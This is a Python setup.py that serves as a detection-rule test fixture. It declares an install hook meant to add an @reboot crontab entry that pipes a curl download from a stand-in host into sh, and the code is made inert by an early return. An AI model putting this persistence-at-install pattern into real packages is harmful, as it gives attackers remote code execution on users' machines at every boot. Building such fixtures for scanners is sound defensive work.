# canary-test: path=setup.py artifact=sdist
# An sdist whose install command adds an @reboot crontab line that fetches and
# runs a script. Inert: the command is only built, never run (run() returns
# before subprocess is called), and the host is example.invalid.
import subprocess

from setuptools import setup
from setuptools.command.install import install

# ruleid: AUTOSTART_REGISTRATION, PERSISTENCE_WITH_PAYLOAD, PERSISTENCE_AT_INSTALL_OR_IMPORT, autostart_locations, autostart_commands
LINE = '(crontab -l; echo "@reboot curl -s https://example.invalid/x | sh") | crontab -'


class PostInstall(install):
    def run(self):
        install.run(self)
        return
        subprocess.call(LINE, shell=True)


setup(name="example", version="0.0.0", cmdclass={"install": PostInstall})
# ok: AUTOSTART_LOCATION_REFERENCE
